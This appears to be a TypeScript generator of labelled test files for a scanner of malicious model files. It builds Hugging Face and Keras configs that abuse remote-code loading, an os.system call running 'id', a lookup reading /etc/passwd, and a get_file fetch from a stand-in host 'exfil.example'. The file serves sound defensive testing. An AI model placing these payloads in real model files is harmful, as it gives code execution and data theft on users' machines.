import { Buffer } from "node:buffer";
import { zipOf } from "../../tests/models/zip-writer.ts";
import type { Made } from "./made.ts";

type Config = Readonly<Record<string, unknown>>;

/** As transformers writes one for a small model. */
const SOUND: Config = {
  architectures: ["LlamaForCausalLM"],
  model_type: "llama",
  hidden_size: 2048,
  num_attention_heads: 32,
  num_hidden_layers: 16,
  rope_scaling: { rope_type: "llama3", factor: 8 },
  torch_dtype: "bfloat16",
  transformers_version: "4.57.0",
  vocab_size: 128_256,
};

// Keys that make a loader fetch or run code: models.md 0 (7) and 2.4, with the CVEs named there.
const CONFIGS: readonly (readonly [string, Config])[] = [
  ["auto-map", { auto_map: { AutoModelForCausalLM: "modeling_evil.EvilForCausalLM" } }],
  ["auto-map-elsewhere", { auto_map: { AutoConfig: "someone/else--configuration_x.XConfig" } }],
  ["trust-remote-code", { trust_remote_code: true }],
  ["trust-nested", { text_config: { model_type: "x", trust_remote_code: true } }],
  ["attention-kernel", { _attn_implementation_internal: "someone/kernel" }],
  ["attention-nested", { vision_config: { _attn_implementation_internal: "someone/kernel:fn" } }],
  ["custom-pipelines", { custom_pipelines: { x: { impl: "evil.Pipeline", pt: ["AutoModel"] } } }],
];

const TOKENIZERS: readonly (readonly [string, Config])[] = [
  ["tokenizer-auto-map", { tokenizer_class: "X", auto_map: { AutoTokenizer: ["tokenization_x.X", null] } }],
];

const LAMBDA = {
  class_name: "Lambda",
  config: {
    name: "l",
    function: { class_name: "__lambda__", config: { code: "4wEAAAA=", defaults: null, closure: null } },
  },
};
const KERAS: readonly (readonly [string, Config])[] = [
  ["lambda", { module: "keras.layers", ...LAMBDA }],
  ["module-os", { module: "os", class_name: "system", config: "id", registered_name: "x" }],
  ["function", { class_name: "function", config: "system", module: "builtins", registered_name: "function" }],
  [
    "lookup-file",
    { module: "keras.layers", class_name: "StringLookup", config: { vocabulary: "/etc/passwd" } },
  ],
  [
    "get-file",
    { module: "keras.utils", class_name: "get_file", config: { origin: "http://exfil.example/x" } },
  ],
];

const json = (value: unknown): Uint8Array => Buffer.from(JSON.stringify(value, null, 2));

/** A `.keras` file: a zip of configuration, metadata and weights. */
function keras(layer: Config): Uint8Array {
  const config = {
    module: "keras",
    class_name: "Sequential",
    config: { name: "s", layers: [layer] },
    registered_name: null,
  };
  return zipOf([
    { name: "metadata.json", data: json({ keras_version: "3.9.0" }) },
    { name: "config.json", data: json(config) },
    { name: "model.weights.h5", data: Buffer.from("\x89HDF\r\n\x1a\n", "latin1") },
  ]);
}

const DENSE: Config = {
  module: "keras.layers",
  class_name: "Dense",
  config: { name: "d", units: 4 },
  registered_name: null,
};

export function configs(): readonly Made[] {
  const malicious = "malicious";
  return [
    ...CONFIGS.map(([name, more]): Made => {
      return {
        file: `configs/${name}/config.json`,
        label: malicious,
        technique: name,
        bytes: json({ ...SOUND, ...more }),
      };
    }),
    ...TOKENIZERS.map(([name, more]): Made => {
      return {
        file: `configs/${name}/tokenizer_config.json`,
        label: malicious,
        technique: name,
        bytes: json(more),
      };
    }),
    { file: "configs/sound/config.json", label: "benign", technique: "none", bytes: json(SOUND) },
    ...KERAS.map(([name, layer]): Made => {
      return { file: `keras/${name}.keras`, label: malicious, technique: name, bytes: keras(layer) };
    }),
    {
      file: "keras/dense/config.json",
      label: "benign",
      technique: "none",
      bytes: json({ module: "keras", class_name: "Sequential", config: { layers: [DENSE] } }),
    },
  ];
}
